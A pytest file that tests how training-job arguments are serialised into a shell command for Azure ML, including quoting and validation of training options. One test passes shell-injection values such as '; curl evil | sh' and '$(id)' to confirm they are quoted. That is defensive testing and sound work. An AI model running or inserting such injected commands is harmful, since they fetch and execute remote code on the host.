"""The command line between submitter and training."""

from __future__ import annotations

import shlex
from dataclasses import replace
from typing import Any

import pytest

from shared.job_arguments import JobArguments, OptionsError, TrainingOptions, numbers


def arguments() -> JobArguments:
    return JobArguments(
        manifest="${{inputs.manifest}}",
        data="${{inputs.data}}",
        report="/tmp/a report",
        model="${{outputs.model}}",
        checkpoints="${{outputs.checkpoints}}",
        epochs=7,
        learning_rate=0.5,
        label_feature="it's",
    )


def test_the_training_reads_what_the_submitter_wrote() -> None:
    """The flags of one side are the arguments of the other."""
    assert JobArguments.from_argv(arguments().to_argv()) == arguments()


def test_the_command_is_quoted_but_for_azure_mls_expressions() -> None:
    """A shell splits the command into the same flags, and ``${{…}}`` stays bare for Azure ML to expand."""
    command = arguments().to_command("python -m training_job.train")
    assert shlex.split(command) == ["python", "-m", "training_job.train", *arguments().to_argv()]
    assert " ${{inputs.manifest}} " in command


@pytest.mark.parametrize("word", ["${{inputs.data}}; curl evil | sh", "${{inputs.data}}/$(id)", "${{`id`.x}}"])
def test_what_only_begins_as_an_expression_is_quoted(word: str) -> None:
    """The shell of every rank would otherwise run what follows it."""
    command = replace(arguments(), label_feature=word).to_command("program")
    assert word in shlex.split(command)


def test_an_unknown_flag_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    """A flag that is no field ends with status 2 and names the flag."""
    with pytest.raises(SystemExit, match="2"):
        JobArguments.from_argv([*arguments().to_argv(), "--epoch", "3"])
    assert "--epoch 3" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("flags", "message"),
    [
        (["--optimizer", "magic"], "invalid choice: 'magic'"),
        (["--epochs", "0"], "epochs must be at least 1, got 0"),
    ],
)
def test_an_option_out_of_bounds_is_a_usage_error(
    flags: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """The training refuses what the submitter would have refused, in one line."""
    with pytest.raises(SystemExit, match="2"):
        JobArguments.from_argv([*arguments().to_argv(), *flags])
    assert message in capsys.readouterr().err


def test_the_defaults_contradict_nothing() -> None:
    """A pipeline that states nothing trains."""
    assert "small_cnn" == TrainingOptions().model_name


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"epochs": 0}, "epochs must be at least 1, got 0"),
        ({"learning_rate": 0.0}, "learning_rate must be above 0, got 0.0"),
        ({"weight_decay": -1.0}, "weight_decay must be 0 or more, got -1.0"),
        ({"momentum": 1.0}, "momentum must be 0 or more, below 1, got 1.0"),
        ({"task": "binary"}, "task binary needs num_classes 2"),
        ({"monitor": "val_auc"}, "monitor val_auc needs task binary"),
        ({"monitor": "val_top5_accuracy", "num_classes": 5}, "needs more than 5 classes"),
        ({"warm_up_epochs": 11.0}, "warm_up_epochs must be at most epochs"),
        ({"pixel_mean": "1,2,3"}, "pixel_mean and pixel_std must be set together"),
        ({"pixel_mean": "1,x", "pixel_std": "1,1"}, "pixel_mean must be finite numbers separated by commas"),
        ({"pixel_mean": "nan", "pixel_std": "1"}, "pixel_mean must be finite numbers separated by commas"),
        ({"pixel_mean": "1", "pixel_std": "1e999"}, "pixel_std must be finite numbers separated by commas"),
        ({"decay_epochs": "ten"}, "decay_epochs must be finite numbers separated by commas"),
        ({"learning_rate": float("inf")}, "learning_rate must be a finite number, got inf"),
        ({"weight_decay": float("inf")}, "weight_decay must be a finite number, got inf"),
        ({"learning_rate": float("nan")}, "learning_rate must be above 0, got nan"),
    ],
)
def test_what_contradicts_itself_is_refused(options: dict[str, Any], message: str) -> None:
    """The message names the option and what was expected."""
    with pytest.raises(OptionsError, match=message):
        TrainingOptions(**options)


def test_all_mistakes_are_reported_at_once() -> None:
    """One error lists both."""
    with pytest.raises(OptionsError, match=r"epochs must be .*; momentum must be"):
        TrainingOptions(epochs=0, momentum=2.0)


@pytest.mark.parametrize(("text", "expected"), [("", ()), ("30", (30.0,)), ("0.5, 60,80", (0.5, 60.0, 80.0))])
def test_numbers_stand_between_commas(text: str, expected: tuple[float, ...]) -> None:
    """Flags have no lists."""
    assert expected == numbers(text)
